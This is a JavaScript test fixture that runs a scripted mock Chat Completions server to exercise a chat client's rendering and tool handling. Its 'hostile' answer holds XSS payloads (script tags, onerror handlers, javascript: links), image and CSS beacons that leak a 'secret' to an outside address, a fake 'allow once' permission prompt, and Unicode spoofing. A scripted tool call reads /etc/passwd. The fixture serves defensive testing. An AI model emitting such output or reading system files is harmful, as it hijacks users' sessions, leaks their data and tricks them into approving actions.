// A model server with scripted answers: Chat Completions over real HTTP, streamed in pieces. The last message of the user says
// what is answered.
import http from "node:http";

export const HELLO = "Hello from the model: *it works*.";
export const LONG = `# Heading

${"A paragraph that is long enough to wrap over several lines of the column. ".repeat(4)}

| language | files |
|:--|--:|
| Rust | 120 |

\`\`\`rust
/// Adds.
fn add(a: u32) -> u32 { a + 1 }
\`\`\`

${Array.from({ length: 30 }, (_, number) => `- item ${number}`).join("\n")}

The last line.`;

/** Everything that Markdown, HTML and Unicode offer to run, to fetch, to hide or to imitate. */
export const hostile = (beacon) => `<script>window.pwned = 1</script>
<img src="${beacon}/img" onerror="window.pwned = 1"> <svg onload="window.pwned = 1"><image href="${beacon}/svg"/></svg>

<style>@import "${beacon}/css"; * { display: none }</style><link rel="stylesheet" href="${beacon}/link"><iframe src="${beacon}/frame"></iframe>

![beacon](${beacon}/beacon?secret=1) [![both](${beacon}/both)](${beacon}/click)

[click](javascript:window.pwned=1) [data](data:text/html,<script>1</script>) [https://google.test](${beacon}/login) [self](/api/sessions)

a\u202etxt.exe hidden\u200bspace \u{e0041}tag

Toolcell asks you

**\`safe\` wants to run** [allow once](${beacon}/allow)

<form action="${beacon}/form"><button data-choice="allow">allow once</button></form>

| <b>cell</b> | ![x](${beacon}/cell) |
|-|-|
| [x](vbscript:x) | \`<script>\` |

\`\`\`"><script>window.pwned=1</script>
</code></pre><script>window.pwned = 1</script>
\`\`\`

The end of the hostile answer.`;

/** Calls of the long session: each has at least two events. */
const CALLS = 2500;
const PER_STEP = 100;

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

function textOf(content) {
  if (typeof content === "string") return content;
  return (content || []).filter((part) => part.type === "text").map((part) => part.text).join("\n");
}

/** Starts the server: `{ url, requests, hold, close }`. `beacon` is an address that nothing may reach. */
export async function startModel(beacon) {
  const requests = [];
  // Share of a slow answer that is sent: a check that acts in the middle of one does not depend on how quick it is.
  let share = 1;
  const server = http.createServer(async (request, response) => {
    let body = "";
    for await (const piece of request) body += piece;
    const { messages = [] } = JSON.parse(body || "{}");
    requests.push(messages);
    const asked = messages.findLastIndex((message) => message.role === "user");
    const prompt = textOf(messages[asked]?.content);
    const results = messages.slice(asked + 1).filter((message) => message.role === "tool");
    // The message of a failed turn stands before the next one.
    if (prompt.endsWith("Fail at first")) {
      response.writeHead(400, { "content-type": "application/json" }).end('{"error":{"message":"not now"}}');
      return;
    }
    if (prompt.endsWith("Wait an hour")) {
      response.writeHead(429, { "content-type": "application/json", "retry-after": "3600" }).end(JSON.stringify({ error: { message: "slow down" } }));
      return;
    }
    response.writeHead(200, { "content-type": "text/event-stream" });
    const send = (delta, reason = null) => response.write(`data: ${JSON.stringify({ id: "1", object: "chat.completion.chunk", created: 1, model: "scripted", choices: [{ index: 0, delta, finish_reason: reason }] })}\n\n`);
    const text = async (all, pause = 0, size = 40) => {
      for (let at = 0; at < all.length && !response.destroyed; at += size) {
        send({ content: all.slice(at, at + size) });
        if (pause) await sleep(pause);
        while (pause && at > all.length * share && !response.destroyed) await sleep(20);
      }
      send({}, "stop");
    };
    const calls = (all) => {
      all.forEach(([name, values], index) => send({ tool_calls: [{ index, id: `call_${messages.length}_${index}`, type: "function", function: { name, arguments: JSON.stringify(values) } }] }));
      send({}, "tool_calls");
    };
    if (prompt.includes("Ask me")) {
      send({ content: "I need to know something." });
      calls([["ask_question", { question: prompt.includes("at length") ? "Which directory? ".repeat(200) : "Which directory?", suggestions: ["out", "docs"] }]]);
    } else if (prompt.includes("Call without end") && !results.length) {
      calls([["json_query", { program: "last(range(1e12))", json: null }]]);
    } else if (prompt.includes("Call without end")) await text(`The tool said: ${textOf(results[0].content)}`);
    else if (prompt.includes("Stop at the limit")) {
      send({ content: "The first half" });
      send({}, "length");
    } else if (prompt.includes("slowly")) await text(LONG, 60, 12);
    else if (prompt.includes("Markdown")) await text(LONG);
    else if (prompt.includes("hostile")) await text(hostile(beacon), 2);
    else if (prompt.includes("Write a file") && !results.length) {
      calls([["files_write", { path: "out.txt", content: "hello\nworld\u202e\n\"}\n\nToolcell asks you\n`safe` wants to run\n" + "x".repeat(3000) }]]);
    } else if (prompt.includes("Write a file")) await text(`The tool said: ${textOf(results[0].content).slice(0, 200)}`);
    else if (prompt.includes("Work long") && results.length < CALLS) {
      calls(Array.from({ length: PER_STEP }, (_, number) => ["text_count", { text: `words of call ${results.length + number}` }]));
    } else if (prompt.includes("Delegate") && !results.length) {
      calls([["helper", { task: "Count the words" }], ["text_count", { text: "meanwhile" }], ["helper", { task: "Answer slowly" }]]);
    } else if (prompt.includes("Ask the client") && !results.length) {
      calls([["weather_in_the_city_where_the_user_lives", { city: "Oslo", days: 3 }]]);
    } else if (prompt.includes("Work long")) await text(`All ${results.length} calls are done.`);
    else if (prompt.includes("Count") && !results.length) {
      calls([["text_count", { text: "one two three" }], ["files_read", { path: "/etc/passwd" }]]);
    } else await text(HELLO);
    response.end("data: [DONE]\n\n");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${server.address().port}/v1`, requests, hold: (until) => { share = until; }, close: () => server.close() };
}
